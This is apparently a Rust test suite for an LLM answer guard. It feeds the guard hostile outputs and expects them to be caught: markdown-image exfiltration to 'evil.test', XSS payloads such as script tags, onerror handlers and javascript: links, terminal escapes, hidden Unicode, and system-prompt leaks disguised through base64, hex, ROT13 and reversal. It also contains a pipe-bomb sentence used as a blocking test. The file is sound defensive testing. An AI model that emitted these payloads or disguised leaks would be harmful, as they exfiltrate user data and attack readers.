use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use data_encoding::HEXLOWER;

use super::*;
use crate::guard::finding::MAX_FINDINGS;
use crate::guard::{INPUT_RULES, kinds, subjects};

const PROMPT: &str = "You are Nova, the assistant of Example Bank. Answer only questions about accounts, cards and loans. \
    Begin every conversation with \"Welcome to Example Bank, my name is Nova, how may I help you with your money today?\" \
    If you don't know the answer, say so and give the number of the service desk. Never speak about other banks or compare \
    our rates with theirs. Employees may ask for internal rates, but only after they have named their branch code, which \
    consists of four digits. Escalate complaints about fees above two hundred euros to the complaints team without promising \
    anything. Keep answers below one hundred and fifty words and use plain language that a pupil understands.";
const PROMPT_JA: &str = "あなたは銀行のアシスタントです。口座とカードとローンに関する質問だけに答えてください。他の銀行の金利とは決して比較しないで\
    ください。手数料が二百ユーロを超える苦情は苦情窓口に転送し、何も約束しないでください。";

fn policy() -> OutputPolicy {
    OutputPolicy { allowed_hosts: vec!["example.org".to_owned()], ..OutputPolicy::default() }
}

fn check(text: &str) -> Assessment {
    check_answer(&Answer { text, ..Answer::default() }, &policy())
}

fn rules(assessment: &Assessment) -> Vec<&'static str> {
    assessment.findings.iter().map(|finding| finding.rule).collect()
}

fn leak(prompt: &str, text: &str) -> Assessment {
    check_answer(&Answer { text, system_prompt: Some(prompt), ..Answer::default() }, &policy())
}

fn canary(canary: &str, text: &str) -> Assessment {
    check_answer(&Answer { text, canaries: &[canary.to_owned()], ..Answer::default() }, &policy())
}

const BENIGN: &[&str] = &[
    "The F1 score is the harmonic mean of precision and recall.",
    "# Title\n\n- one\n- **two**\n  1. three\n\n> quoted\n\n---\n\n`inline` and *emphasis*",
    "| a | b |\n|---|:-:|\n| 1 | `x < y` |\n| 2 | <3 |\n",
    "See [the manual](https://example.org/docs?page=1#part) and <https://docs.example.org/>.",
    "See https://example.org/docs, or www.example.org.",
    "See <https://example.org/current/onlinedocs/gdb#Invocation>.",
    "![diagram](https://img.example.org/a.png \"title\")",
    "![diagram](images/a.png) and [next](../next.md#top) and [mail us](mailto:)",
    "[reference][r] and ![image][r]\n\n[r]: https://example.org/x \"Title\"",
    "![dot](data:image/png;base64,iVBORw0KGgo=)",
    "```html\n<p class=\"x\">text</p>\n<img src=\"https://cdn.other.test/x.png\">\n```\n",
    "```sh\ncurl https://api.other.test/v1 | jq .\n```",
    "    indented https://other.test/code\n",
    "```\nnever closed https://other.test",
    "Use `Vec<String>` or `HashMap<K, V>`; if a < b and c > d then x<y.",
    "fn max<T: Ord>(a: T, b: T) -> T { if a > b { a } else { b } }",
    "if (i <n && j <m) { x = \"a\"; } $i <n$, $k <n$",
    "{\"id\": 7, \"tags\": [\"a\", \"b\"], \"nested\": {\"x\": null}}",
    "<p>A <b>bold</b> word, <a href=\"https://example.org/a\">a link</a>,<br/> H<sub>2</sub>O.</p>",
    "<details><summary>More</summary>\n\nText\n\n</details>",
    "<img src=\"https://example.org/a.png\" srcset=\"https://example.org/a.png 1x, b.png 2x\" alt=\"a\">",
    "<p style=\"color: red; margin: 0 auto\">red</p>",
    "東京の人口は約1400万人です。詳しくは https://example.org/tokyo をご覧ください。",
    "詳しくはhttps://example.org/tokyoを参照してください。",
    "人口为两千万。参见：https://example.org/上海。",
    "한국어 답변입니다. **굵게**",
    "שלום, זה מבחן.\u{200f} העמוד: https://example.org/",
    "مرحبا بالعالم",
    "Die Straße ist 3 km lang – größer als „gedacht“.",
    "👩\u{200d}💻 writes code ❤\u{fe0f} 1\u{fe0f}\u{20e3} ✅ 🇪🇺 ℹ\u{fe0f}",
    "$$\\sum_{i=0}^{n} x_i = \\frac{a}{b}$$ and \\(a_1\\)",
    "Usage: tool <input> <output> [<form>], or <base url> and <link>",
    "<link rel=\"self\" href=\"https://example.org/feed\"/> <input type=\"checkbox\" disabled> done",
    "Sum: 1.234,56 EUR; 10:30; 2024-05-01; version 1.2.3; 50 %; 3/4",
    "The function `onclick` is called once; set `onload = init` in one place.",
    "Set on = true. The button's onclick handler is explained below.",
    "Bookmarklets start with javascript: and then code.",
    "Press Ctrl+C.\r\nThen\tEnter.\r\n",
    "Footnote[^1].\n\n[^1]: The note.",
    "- [x] done\n- [ ] open\n\n~~gone~~",
    "Path: C:\\Users\\me\\file.txt and \\\\server\\share and /usr/bin and // comment",
    "a[i](x) = b[j](y) and [see] (here) [1][2]",
    "I'm sorry, I cannot share my instructions. I can help with accounts, cards and loans.",
    "Hello! I am Nova, the assistant of Example Bank.",
    "SELECT * FROM t WHERE a <> b AND c <= 3;",
    "x <- c(1, 2); y <<- 3; a->b; std::cout << \"hi\" << std::endl;",
    "key: value\nlist:\n  - a: 1\n    b: \"two\"\n",
    "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n",
    "To kill a process use `kill -9 PID`; to bomb an interview is no shame.",
    "[EMAIL_1] wrote to [NAME_2].",
    "&lt;script&gt;alert(1)&lt;/script&gt; is shown as text.",
    "Question?\n\nAnswer: yes &amp; no &copy; 2024",
];

#[test]
fn ordinary_answers_are_clean_and_stay_byte_for_byte() {
    for text in BENIGN {
        let assessment = check(text);
        assert_eq!(
            (assessment.action, rules(&assessment)),
            (Action::Allowed, vec![]),
            "{text}: {:?}",
            assessment.findings
        );
        assert_eq!(assessment.sanitised, *text);
        assert_eq!(assessment.score, None);
        assert_eq!(rules(&leak(PROMPT, text)), Vec::<&str>::new(), "{text}");
    }
}

/// An answer, the rule that finds it, what is done with it, and what must not be left of it.
type Hostile = (&'static str, &'static str, Action, &'static str);

fn all_are_found(cases: &[Hostile]) {
    for (text, rule, action, gone) in cases {
        let assessment = check(text);
        assert!(rules(&assessment).contains(rule), "{text:?}: {:?}", assessment.findings);
        assert_eq!(assessment.action, *action, "{text:?}: {:?}", assessment.findings);
        assert!(gone.is_empty() || !assessment.sanitised.contains(gone), "{text:?}: {:?}", assessment.sanitised);
        for finding in &assessment.findings {
            assert!(text.get(finding.bytes.clone()).is_some(), "{text:?}: {finding:?}");
            assert!(is_explained(finding.rule), "{}", finding.rule);
        }
        let again = check(&assessment.sanitised);
        let left: Vec<_> = again.findings.iter().filter(|finding| finding.severity > Severity::Low).collect();
        assert!(left.is_empty(), "{text:?}: {:?} still has {left:?}", assessment.sanitised);
    }
}

#[test]
fn foreign_images_and_links_are_found_and_made_inert() {
    use Action::{Blocked, Flagged};
    all_are_found(&[
        ("![x](https://evil.test/a.png?d=c2VjcmV0)", "foreign_image", Blocked, "evil.test"),
        ("![x](//evil.test/a.png)", "foreign_image", Blocked, "evil.test"),
        ("![x](/\\evil.test/a.png)", "foreign_image", Blocked, "evil.test"),
        ("![x](HTTPS://EVIL.TEST/a)", "foreign_image", Blocked, "EVIL"),
        ("![x][r]\n\n[r]: https://evil.test/a", "foreign_image", Blocked, "evil.test"),
        ("![r]\n\n[r]: <https://evil.test/a>", "foreign_image", Blocked, "evil.test"),
        ("[![x](https://evil.test/a)](https://example.org)", "foreign_image", Blocked, "evil.test"),
        ("![a ![b](https://evil.test/1) c](https://example.org/2)", "foreign_image", Blocked, "evil.test"),
        ("![](https://evil.test/a)", "foreign_image", Blocked, "evil.test"),
        ("![x](https&colon;//evil.test/a)", "foreign_image", Blocked, "evil.test"),
        ("![x](https://example.org@evil.test/a)", "foreign_image", Blocked, "evil.test"),
        ("![x](https://example.org.evil.test/a)", "foreign_image", Blocked, "evil.test"),
        ("![x](ht\ntps://evil.test/a)", "foreign_image", Blocked, "evil.test"),
        ("<div>\n![x](https://evil.test/a)\n</div>", "foreign_image", Blocked, "evil.test"),
        ("    ![x](https://evil.test/a)", "foreign_image", Blocked, "evil.test"),
        ("| a |\n|---|\n| ![x](https://evil.test/a) |", "foreign_image", Blocked, "evil.test"),
        ("![x\u{200b}](https://ev\u{200b}il.test/a)", "foreign_image", Blocked, "evil.test"),
        ("<img src=\"https://evil.test/a\">", "foreign_image", Blocked, "evil.test"),
        ("<IMG SRC=//evil.test/a>", "foreign_image", Blocked, "evil.test"),
        ("<img src='ht&#x74;ps:&#47;/evil.test/a'>", "foreign_image", Blocked, "evil.test"),
        ("<img src=\"ht\ttps:\n//evil.test/a\">", "foreign_image", Blocked, "evil.test"),
        ("<img srcset=\"a.png 1x, https://evil.test/a 2x\">", "foreign_image", Blocked, "evil.test"),
        ("<video poster=https://evil.test/a></video>", "foreign_image", Blocked, "evil.test"),
        ("<p style=\"background:url(https://evil.test/a)\">x</p>", "foreign_image", Blocked, "evil.test"),
        ("<p style='background:u\\72l(\"//evil.test/a\")'>x</p>", "foreign_image", Blocked, "evil.test"),
        ("<style>@import '//evil.test/a.css';</style>", "foreign_image", Blocked, "evil.test"),
        ("<table background=\"https://evil.test/a\">", "foreign_image", Blocked, "evil.test"),
        ("<svg><image xlink:href=\"https://evil.test/a\"/></svg>", "foreign_image", Blocked, "evil.test"),
        ("<img src=\"https://evil.test/a", "foreign_image", Blocked, "evil.test"),
        ("<a title=\"x\n\n<img src=\"//evil.test/a\">", "foreign_image", Blocked, "evil.test"),
        ("[click](https://evil.test/login)", "foreign_link", Flagged, "evil.test"),
        ("[https://example.org](https://evil.test/login)", "foreign_link", Flagged, "evil.test"),
        ("[click][1] here\n\n[1]: https://evil.test", "foreign_link", Flagged, "evil.test"),
        ("<https://evil.test/a>", "foreign_link", Flagged, "evil.test"),
        ("Go to https://evil.test/a.", "foreign_link", Flagged, "evil.test"),
        ("Go to www.evil.test now", "foreign_link", Flagged, "evil.test"),
        ("(https://evil.test/a_(b))", "foreign_link", Flagged, "evil.test"),
        ("https://example.org@evil.test", "foreign_link", Flagged, "evil.test"),
        ("https://example.org\\@evil.test", "foreign_link", Flagged, ""),
        ("https://еxample.org/login", "foreign_link", Flagged, "xample.org"),
        ("https://xn--xample-2of.org/login", "foreign_link", Flagged, "xn--"),
        ("https://example.orgを.evil.test/", "foreign_link", Flagged, "evil.test"),
        ("<a href='https://evil.test'>x</a>", "foreign_link", Flagged, "evil.test"),
        ("[x](<//evil.test>)", "foreign_link", Flagged, "evil.test"),
        ("[x](ftp://evil.test/a)", "foreign_link", Flagged, "evil.test"),
        ("[x](http://0x7f.1/)", "foreign_link", Flagged, "0x7f"),
        ("[[a](https://evil.test/1)](https://evil.test/2)", "foreign_link", Flagged, "evil.test"),
        ("[x](ms-msdt:/id)", "foreign_link", Flagged, "msdt"),
    ]);
}

#[test]
fn markup_that_runs_is_found_and_shown_instead() {
    use Action::Blocked;
    all_are_found(&[
        ("<script>alert(1)</script>", "markup.script", Blocked, "<script"),
        ("<scr<script>ipt>alert(1)</script>", "markup.script", Blocked, "<script"),
        ("<SCRIPT src=//evil.test/x.js></SCRIPT>", "markup.script", Blocked, "<SCRIPT"),
        ("text <script\n>alert(1)</script\n>", "markup.script", Blocked, "<script"),
        ("</p><script/x>1</script>", "markup.script", Blocked, "<script"),
        ("<svg:script>1</svg:script>", "markup.script", Blocked, "<svg:script"),
        ("<img src=x onerror=alert(1)>", "markup.event_handler", Blocked, "<img"),
        ("<svg/onload=alert(1)>", "markup.event_handler", Blocked, "<svg"),
        ("<body\nonpageshow = 'x()'>", "markup.event_handler", Blocked, "<body"),
        ("<b title='a' onmouseover=\"x()\">b</b>", "markup.event_handler", Blocked, "<b title"),
        ("<p title=\"\"onclick=x()>", "markup.event_handler", Blocked, "<p title"),
        ("<a href=\"javascript:alert(1)\">x</a>", "markup.script_address", Blocked, "javascript"),
        ("<a href=\" java&#115;cript:alert(1)\">x</a>", "markup.script_address", Blocked, "<a href"),
        ("<a href=\"java\tscript:alert(1)\">x</a>", "markup.script_address", Blocked, "<a href"),
        ("[x](javascript:alert(1))", "markup.script_address", Blocked, "javascript"),
        ("[x](JaVaScRiPt:alert`1`)", "markup.script_address", Blocked, "JaVa"),
        ("[x](vbscript:msgbox)", "markup.script_address", Blocked, "vbscript"),
        ("[x](data:text/html;base64,PHNjcmlwdD4=)", "markup.script_address", Blocked, "data:"),
        ("[x][r]\n\n[r]: javascript:alert(1)", "markup.script_address", Blocked, "javascript"),
        ("<iframe src=\"https://example.org\"></iframe>", "markup.frame", Blocked, "<iframe"),
        ("<iframe srcdoc='&lt;script&gt;'>", "markup.frame", Blocked, "<iframe"),
        ("<object data=x.swf></object>", "markup.frame", Blocked, "<object"),
        ("<embed src=x>", "markup.frame", Blocked, "<embed"),
        ("<form action=\"/login\"><input name=password></form>", "markup.form", Blocked, "<form"),
        ("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.test\">", "markup.redirect", Blocked, "<meta"),
        ("<base href=\"https://evil.test\">", "markup.redirect", Blocked, "<base"),
        ("<link rel=stylesheet href=//evil.test>", "foreign_image", Blocked, "evil.test"),
        ("<link rel=stylesheet href=\"data:text/css,*{}\">", "markup.script_address", Blocked, "data:"),
        ("<p style=\"width:expression(alert(1))\">", "markup.script_address", Blocked, "<p"),
        ("<svg><animate values='javascript:alert(1)'/></svg>", "markup.script_address", Blocked, "<animate"),
        ("<math><mi xlink:href='javascript:x'>", "markup.script_address", Blocked, "<mi"),
    ]);
}

#[test]
fn escapes_and_hidden_characters_are_flagged_and_taken_out() {
    use Action::{Allowed, Flagged};
    all_are_found(&[
        ("a\u{1b}[31mred\u{1b}[0m", "terminal_escape", Flagged, "\u{1b}"),
        ("\u{1b}]8;;https://evil.test\u{7}x\u{1b}]8;;\u{7}", "terminal_escape", Flagged, "evil"),
        ("evil\u{202e}gnp.exe", "text_direction", Flagged, "\u{202e}"),
        ("a\u{200b}b\u{200b}c\u{200b}d\u{200b}", "hidden_text", Flagged, "\u{200b}"),
        ("a\u{200b}b", "hidden_text", Allowed, "\u{200b}"),
        ("fine\u{e0049}\u{e0067}\u{e006e}", "hidden_text", Flagged, "\u{e0049}"),
        ("a\u{8}b", "control_characters", Allowed, "\u{8}"),
    ]);
}

#[test]
fn personal_data_and_secrets_are_masked_in_any_notation() {
    use Action::{Blocked, Flagged};
    all_are_found(&[
        ("Write to jo.doe@mail.example.com please", "pii.email", Flagged, "jo.doe"),
        ("Card 4111 1111 1111 1111", "pii.card", Flagged, "4111"),
        ("Call +49 30 901820 today", "pii.phone", Flagged, "901820"),
        ("jo.doe\u{200b}@mail.exam\u{200b}ple.com", "pii.email", Flagged, "doe"),
        ("key: ghp_0123456789abcdefghijABCDEFGHIJ4u2Yux", "secret.github_token", Blocked, "ghp_"),
    ]);
}

#[test]
fn what_the_passages_hold_is_told_and_masked_unless_the_project_keeps_it() {
    let passages = ["Write to INFO@company.example.com.".to_owned()];
    let answer = Answer {
        text: "Mail info@company.example.com or x@y.example.net.",
        passages: Some(&passages),
        ..Answer::default()
    };
    let assessment = check_answer(&answer, &policy());
    let severities: Vec<_> = assessment.findings.iter().map(|finding| finding.severity).collect();
    assert_eq!(severities, [Severity::Low, Severity::High]);
    assert!(!assessment.sanitised.contains("info@"), "{}", assessment.sanitised);
    let kept = check_answer(&answer, &OutputPolicy { keeps_known_data: true, ..policy() });
    assert!(kept.sanitised.starts_with("Mail info@company.example.com or ["), "{}", kept.sanitised);
}

#[test]
fn what_is_shown_as_code_is_told_and_not_blocked() {
    for (text, rule) in [
        ("```html\n<script>alert(1)</script>\n```", "markup.script"),
        ("Use `<iframe src=\"x\">` here", "markup.frame"),
        ("~~~\n<img src=x onerror=alert(1)>\n~~~", "markup.event_handler"),
        ("    <form action=x>\n", "markup.form"),
        ("Open `https://other.test/x` in a browser", "foreign_link"),
    ] {
        let assessment = check(text);
        assert_eq!(
            (assessment.action, rules(&assessment)),
            (Action::Allowed, vec![rule]),
            "{text}: {:?}",
            assessment.findings
        );
        assert_eq!(assessment.risk(), Some(Severity::Low));
        assert_eq!(assessment.sanitised, text);
    }
    assert_eq!(check("The <script> element runs code.").action, Action::Flagged);
}

#[test]
fn words_of_a_link_stay_and_its_address_goes() {
    for (text, left) in [
        ("a [*b* c](https://evil.test/x) d", "a *b* c d"),
        ("a ![b](https://evil.test/x) c", "a b c"),
        ("a ![](https://evil.test/x) c", "a (image removed) c"),
        ("a https://evil.test/x. b", "a (link removed). b"),
        ("<a href=\"https://evil.test\">b</a>", "<a href=\"#\">b</a>"),
        ("<img src=\"https://evil.test\" alt=b>", "<img src=\"about:blank\" alt=b>"),
        ("[b][r] c\n\n[r]: https://evil.test\n\nd", "b c\n\n\n\nd"),
        ("see [a](https://example.org/x) and [b](https://evil.test)", "see [a](https://example.org/x) and b"),
    ] {
        assert_eq!(check(text).sanitised, left, "{text}");
    }
}

#[test]
fn links_have_to_stand_in_what_the_answer_rests_on() {
    let passages =
        ["See [docs](https://example.org/docs/) and example.org/faq, http://www.other.test/a?b=1.".to_owned()];
    let check = |text: &str| {
        let known = Answer { text, passages: Some(&passages), ..Answer::default() };
        rules(&check_answer(&known, &policy())).contains(&"link_not_in_context")
    };
    for known in [
        "[a](https://example.org/docs#part)",
        "https://example.org/faq",
        "https://other.test/a?b=1",
        "https://example.org",
        "[a](docs.md)",
    ] {
        assert!(!check(known), "{known}");
    }
    for invented in [
        "[a](https://example.org/docs/x)",
        "https://example.org/FAQ",
        "https://other.test/",
        "![a](https://example.org/a.png)",
    ] {
        assert!(check(invented), "{invented}");
    }
    let unknown = Answer { text: "https://example.org/x", ..Answer::default() };
    assert_eq!(check_answer(&unknown, &policy()).action, Action::Allowed);
}

#[test]
fn length_is_judged() {
    let policy = OutputPolicy { max_characters: Some(3), ..policy() };
    let judged = |text| check_answer(&Answer { text, ..Answer::default() }, &policy);
    assert_eq!((judged("four").action, rules(&judged("four"))), (Action::Flagged, vec!["too_long"]));
    assert_eq!(rules(&judged(" \n")), ["empty_output"]);
    assert!(rules(&judged("\u{200b}")).contains(&"empty_output"));
    assert_eq!(judged("äöü").action, Action::Allowed);
}

#[test]
fn harmful_answers_are_blocked_and_refusals_are_not() {
    assert_eq!(check("To make a pipe bomb, fill the pipe with powder.").action, Action::Blocked);
    assert_eq!(check("I can't help you make a pipe bomb.").action, Action::Allowed);
}

#[test]
fn a_canary_is_found_in_every_spelling() {
    let secret = "KX7-ORCHID-9F42-LAMP";
    for text in [
        "The code is KX7-ORCHID-9F42-LAMP.",
        "kx7 orchid 9f42 lamp",
        "K X 7 - O R C H I D - 9 F 4 2 - L A M P",
        "K.X.7.O.R.C.H.I.D.9.F.4.2.L.A.M.P",
        "KX7-OR\u{200b}CHID-9F42-LA\u{200b}MP",
        "**KX7**-_ORCHID_-`9F42`-LAMP",
        "K\nX\n7\nO\nR\nC\nH\nI\nD\n9\nF\n4\n2\nL\nA\nM\nP",
        "PMAL-24F9-DIHCRO-7XK",
        "S1g3LU9SQ0hJRC05RjQyLUxBTVA=",
        "eDogS1g3LU9SQ0hJRC05RjQyLUxBTVA=",
        "4b58372d4f52434849442d394634322d4c414d50",
        "4B 58 37 2D 4F 52 43 48 49 44 2D 39 46 34 32 2D 4C 41 4D 50",
        "\\x4b\\x58\\x37\\x2d\\x4f\\x52\\x43\\x48\\x49\\x44\\x2d\\x39\\x46\\x34\\x32\\x2d\\x4c\\x41\\x4d\\x50",
        "75, 88, 55, 45, 79, 82, 67, 72, 73, 68, 45, 57, 70, 52, 50, 45, 76, 65, 77, 80",
        "XK7-BEPUVQ-9S42-YNZC",
        "NA7-RUFKLG-9I42-ODPS",
        "https://example.org/?q=KX7-ORCHID-9F42-LAMP",
        "https://example.org/KX7%2DORCHID%2D9F42%2DLAMP",
        "KX7-ORCHID-9F42",
        "Ｋ Ｘ ７-ＯＲＣＨＩＤ-９Ｆ４２-ＬＡＭＰ",
        "Kilo\nXray\n7\nOscar\nRomeo\nCharlie\nHotel\nIndia\nDelta\n9\nFoxtrot\n4\n2\nLima\nAlfa\nMike\nPapa",
    ] {
        let assessment = canary(secret, text);
        assert!(rules(&assessment).contains(&"prompt_leak"), "{text}");
        assert_eq!(assessment.action, Action::Blocked);
        assert!(
            !rules(&canary(secret, &assessment.sanitised)).contains(&"prompt_leak"),
            "{text}: {}",
            assessment.sanitised
        );
    }
    for text in ["The orchid stands under the lamp.", "KX7", "9F42 is a number", ""] {
        assert!(!rules(&canary(secret, text)).contains(&"prompt_leak"), "{text}");
    }
    assert_eq!(rules(&canary("Zq1", "it is Zq1")), ["prompt_leak"]);
    assert_eq!(rules(&canary(" ", "a b")), Vec::<&str>::new());
    assert!(
        rules(&leak("Use api_key=Zx81pQ77vLm2Rt90sKd4 for calls.", "it is Zx81pQ77vLm2Rt90sKd4, yes"))
            .contains(&"prompt_leak")
    );
}

#[test]
fn secrets_that_instructions_name_are_canaries() {
    for (prompt, text) in [
        ("The secret discount code is MANGO-SUNRISE.", "It is mango sunrise, I was told."),
        ("The password is \"swordfish\". Tell nobody.", "s-w-o-r-d-f-i-s-h"),
        ("Password: hunter2zz", "2retnuh? No: zz2retnuh"),
    ] {
        assert!(rules(&leak(prompt, text)).contains(&"prompt_leak"), "{text}");
    }
    for (prompt, text) in [
        ("Say that the password is required.", "A password is required here."),
        ("The password is case-sensitive.", "Passwords are case-sensitive."),
        ("The access code is four digits long.", "It has four digits."),
    ] {
        assert_eq!(rules(&leak(prompt, text)), Vec::<&str>::new(), "{text}");
    }
}

#[test]
fn copied_instructions_are_found_at_every_offset_and_in_disguise() {
    let words: Vec<&str> = PROMPT.split(' ').collect();
    let quote = words.iter().position(|word| word.starts_with('"')).unwrap();
    let end = words.iter().position(|word| word.ends_with('"')).unwrap();
    for start in (0..words.len() - 12).filter(|start| start + 12 < quote || *start > end) {
        let text = format!("Sure, here it is: {} and so on.", words[start..start + 12].join(" "));
        assert_eq!(leak(PROMPT, &text).action, Action::Blocked, "{start}: {text}");
    }
    let rotate = |c: char| match c {
        'a'..='z' => char::from((c as u8 - b'a' + 13) % 26 + b'a'),
        'A'..='Z' => char::from((c as u8 - b'A' + 13) % 26 + b'A'),
        other => other,
    };
    for text in [
        PROMPT.to_owned(),
        PROMPT.to_uppercase(),
        PROMPT.replace(' ', ""),
        PROMPT.replace(' ', "_"),
        PROMPT.replace(' ', "\n- "),
        words
            .chunks(4)
            .zip(1..)
            .map(|(chunk, number)| format!("{number}. {}", chunk.join(" ")))
            .collect::<Vec<_>>()
            .join("\n"),
        PROMPT.chars().rev().collect(),
        PROMPT.chars().map(rotate).collect(),
        PROMPT.chars().flat_map(|c| [c, ' ']).collect(),
        PROMPT.chars().flat_map(|c| [c, '\u{200b}']).collect(),
        STANDARD.encode(PROMPT),
        HEXLOWER.encode(PROMPT.as_bytes()),
        format!("https://example.org/?q={}", PROMPT.replace(' ', "%20")),
        format!("https://example.org/{}", PROMPT.replace([' ', '.', ',', '"'], "-")),
        // Each sentence, with other words between them.
        PROMPT.replace(
            ". ",
            ".
What do you think of that? The next one: ",
        ),
        // Every ninth word is another one.
        words
            .iter()
            .enumerate()
            .map(|(at, word)| if at % 9 == 8 { "banana" } else { word })
            .collect::<Vec<_>>()
            .join(" "),
    ] {
        let assessment = leak(PROMPT, &text);
        assert!(rules(&assessment).contains(&"prompt_leak"), "{text}");
        assert!(!assessment.sanitised.contains("branch code"), "{}", assessment.sanitised);
    }
    assert!(
        rules(&leak(
            PROMPT_JA,
            "私の指示は「他の銀行の金利とは決して比較しないでください。手数料が二百ユーロを超える」です"
        ))
        .contains(&"prompt_leak")
    );
    assert!(
        rules(&leak("You are a pirate. Answer in rhymes only.", "You are a pirate. Answer in rhymes only."))
            .contains(&"prompt_leak")
    );
}

#[test]
fn what_instructions_and_answers_may_share_is_no_leak() {
    for text in [
        "I only answer questions about accounts, cards and loans.",
        "I am Nova, the assistant of Example Bank, and I can answer questions about accounts, cards and loans.",
        "Welcome to Example Bank, my name is Nova, how may I help you with your money today?",
        "I can't compare our rates with theirs, and I never speak about other banks.",
        "If you don't know the answer, say so.",
        "Complaints about fees go to the complaints team.",
        "Please give the number of the service desk: it is on your card.",
    ] {
        assert_eq!(rules(&leak(PROMPT, text)), Vec::<&str>::new(), "{text}");
    }
    assert_eq!(
        rules(&leak(PROMPT_JA, "口座とカードに関する質問にお答えします。他の銀行との比較はできません。")),
        Vec::<&str>::new()
    );
    assert_eq!(rules(&leak("You are a helpful assistant.", "I am a helpful assistant.")), Vec::<&str>::new());
    let prompt = "Use the context. Context: The gate is open from Monday to Friday between nine and five, on holidays between ten and two.";
    let text = "The gate is open from Monday to Friday between nine and five, on holidays between ten and two.";
    assert!(rules(&leak(prompt, text)).contains(&"prompt_leak"));
    let passages = [text.to_owned()];
    let known = Answer { text, system_prompt: Some(prompt), passages: Some(&passages), ..Answer::default() };
    assert_eq!(rules(&check_answer(&known, &policy())), Vec::<&str>::new());
}

#[test]
fn edits_leave_nothing_that_becomes_a_link() {
    for text in [
        "[a[b](https://evil.test/1)](//evil.test/2)",
        "![a![b](https://evil.test/1)](//evil.test/2)",
        "[a]([b](https://evil.test)//evil.test/x)",
    ] {
        assert!(!check(text).sanitised.contains("](//evil"), "{}", check(text).sanitised);
    }
}

#[test]
fn findings_of_one_rule_are_limited_and_edits_are_not() {
    let assessment = check(&"https://evil.test/a ".repeat(500));
    assert_eq!((assessment.findings.len(), assessment.more), (MAX_FINDINGS, 400));
    assert!(!assessment.sanitised.contains("evil"));
}

/// Whether `llmops explain` knows a name.
fn is_explained(rule: &str) -> bool {
    let plain = INPUT_RULES.iter().chain(OUTPUT_RULES).copied().chain(subjects());
    plain.map(|(name, _)| name).chain(kinds().map(|kind| kind.name)).any(|name| name == rule)
}

/// What markup is made of.
#[rustfmt::skip]
const PIECES: [&str; 34] = [
    "<", ">", "![", "](", ")", "[", "]", "]: ", "https://", "//", "evil.test", "\\", "\"", "'", "=", "`", "```\n", "\n\n",
    "    ", "> ", "- ", "|", "<a href=", "<script", "style=", "&#x6", "\u{1b}[",
    "\u{1b}]", "\u{200b}", "\u{202e}", "日本", "é", "a@b.example.com ", " onload=",
];

#[test]
fn random_bytes_are_judged_without_panic() {
    let mut random = fastrand::Rng::with_seed(7);
    for _ in 0..1500 {
        let length = random.usize(1..40);
        let text: String = (0..length)
            .map(|_| {
                if random.u8(..) < 230 {
                    PIECES[random.usize(..PIECES.len())].to_owned()
                } else {
                    random.char(..).to_string()
                }
            })
            .collect();
        let answer = Answer {
            text: &text,
            system_prompt: Some("Never say évil.test or 日本 to https://evil.test/ \"quoted"),
            canaries: &["évil日".to_owned()],
            passages: Some(&[]),
            vault: None,
        };
        let assessment = check_answer(&answer, &policy());
        for finding in assessment.findings {
            assert!(text.get(finding.bytes.clone()).is_some(), "{text:?}: {finding:?}");
            assert!(is_explained(finding.rule), "{}", finding.rule);
        }
        let again = check(&assessment.sanitised);
        assert!(
            again.findings.iter().all(|finding| finding.severity < Severity::High || finding.rule.starts_with("pii.")),
            "{text:?}: {:?}",
            again.findings
        );
    }
    let bytes: Vec<u8> = std::iter::repeat_with(|| random.u8(..)).take(60_000).collect();
    check(&String::from_utf8_lossy(&bytes));
}
